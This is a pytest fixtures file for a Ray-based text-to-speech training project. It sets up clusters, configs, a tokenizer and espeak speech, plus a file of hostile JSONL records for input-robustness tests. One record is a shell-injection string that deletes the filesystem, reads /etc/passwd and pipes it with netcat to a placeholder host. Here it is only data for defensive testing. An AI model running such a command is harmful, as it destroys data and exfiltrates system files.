"""Shared fixtures: real small models from the offline assets, espeak-ng speech, configs."""

from __future__ import annotations

import json
import os

os.environ.setdefault("RAY_AUTH_MODE", "disabled")
os.environ.setdefault("RAY_USAGE_STATS_ENABLED", "0")
os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
os.environ.setdefault("VLLM_LOGGING_LEVEL", "WARNING")

import pytest

from salad_ray.config import load_config


def pytest_collection_modifyitems(items):
    """Tests marked ``machine_wide`` (they run `ray stop`) first, before any test starts Ray."""
    items.sort(key=lambda item: item.get_closest_marker("machine_wide") is None)


@pytest.fixture(scope="session")
def rehearsal_tool():
    """tools/rehearsal_data.py as a module: the rehearsal's model and dataset builders, which some
    tests reuse at smaller sizes (a random Kokoro, Emilia-shaped webdataset shards)."""
    import importlib.util
    from pathlib import Path

    path = Path(__file__).parents[1] / "tools" / "rehearsal_data.py"
    spec = importlib.util.spec_from_file_location("rehearsal_data", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="session")
def smoke_job():
    """The README's laptop section run as written: a smoke run by `ray job submit` on a `ray start`
    cluster, then `ray stop` (salad_ray/testing/readme.py). Its tests are ``machine_wide``, so it runs first."""
    from salad_ray.testing.readme import laptop_job

    return laptop_job()


@pytest.fixture(scope="session")
def local_config():
    return load_config("local")


@pytest.fixture(scope="session")
def smoke_config():
    return load_config("smoke")


@pytest.fixture(scope="session")
def smollm_path():
    from salad_ray.assets import resolve

    return resolve("asset:smollm2-135m-instruct")


@pytest.fixture(scope="session")
def tokenizer(smollm_path):
    from transformers import AutoTokenizer

    return AutoTokenizer.from_pretrained(smollm_path)


@pytest.fixture(scope="session")
def espeak():
    from salad_ray.tts.espeak import EspeakTTS

    return EspeakTTS()


@pytest.fixture(scope="session")
def ray_cluster():
    """One local Ray instance for the session (logical CPUs above the 2 real ones let actors co-exist)."""
    import ray

    if not ray.is_initialized():
        ray.init(address="local", num_cpus=6, include_dashboard=False, log_to_driver=False)
    yield ray
    from ray import serve

    serve.shutdown()
    ray.shutdown()


@pytest.fixture(autouse=True, scope="module")
def _release_serve():
    """Each module's teacher deployments go when the module ends: their CPUs are the next module's."""
    yield
    import ray

    if ray.is_initialized():
        from ray import serve

        serve.shutdown()


ORDINARY = [
    "The old lighthouse keeper climbed the stairs every evening to light the lamp.",
    "Ships passing in the night saw the beam and steered clear of the rocks below.",
    "In the morning he wrote the weather in a book that nobody else ever read.",
]


@pytest.fixture
def adversarial_jsonl(tmp_path):
    """A JSONL file of hostile records (see the comments), and each line's value as read: the text
    field of a line that is a JSON object with a string text field, else the line itself."""
    text = lambda t, **kw: json.dumps({"text": t, **kw}).encode()  # noqa: E731
    lines = [
        b"",  # empty
        b"   \t ",  # whitespace only
        text("The keeper\u0000 lit the lamp at dusk and\u0000 watched the sea all night."),  # NUL escaped
        b'{"text": "a raw \x00 NUL byte inside the line makes it invalid JSON here"}',
        text("He said the word " + "x" * 20_000 + " and then fell silent for an hour."),  # 20,000 chars
        text(" ".join(["word"] * 600)),  # 600 words
        text(
            "\U0001f600 \U0001f603 \U0001f604 \U0001f389 \U0001f680 \U0001f525 \U0001f308 \U0001f30a \u2764"
        ),
        text("هذا نص عربي قصير لاختبار قراءة النصوص في خط الأنابيب اليوم"),  # Arabic
        text("123 456 7890 3.14159 2718 1618 42 1000000 99 12"),  # digits only
        text(
            '<speak>Hello <break time="500ms"/> there, <prosody rate="slow">the keeper speaks</prosody></speak>'
        ),
        text("rm -rf / ; echo $(cat /etc/passwd) | nc x.example 4444 && `reboot` > /dev/null 2>&1 &"),
        text("The\u200b old\u200b keeper\u200b rowed out to the wreck and brought back two sailors."),  # ZWSP
        b'{"text": "The ships passed in the night and the',  # truncated
        b'{"text": "caf\xe9 in bytes that are not UTF-8 at all, said the keeper"}',
        b'{"body": "a record without the text field at all, only a body"}',
        text(42),  # not a string
        text("A medical text from a domain that is held out of every training source.", topic="medicine"),
        *(text(t) for t in ORDINARY),
        text(ORDINARY[0]),  # a duplicate
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")

    def as_read(line: bytes):
        try:
            row = json.loads(line)
        except ValueError:
            try:
                return line.decode("utf-8")
            except UnicodeDecodeError:
                return line
        return row["text"] if isinstance(row, dict) and isinstance(row.get("text"), str) else line.decode()

    return path, [as_read(line) for line in lines]
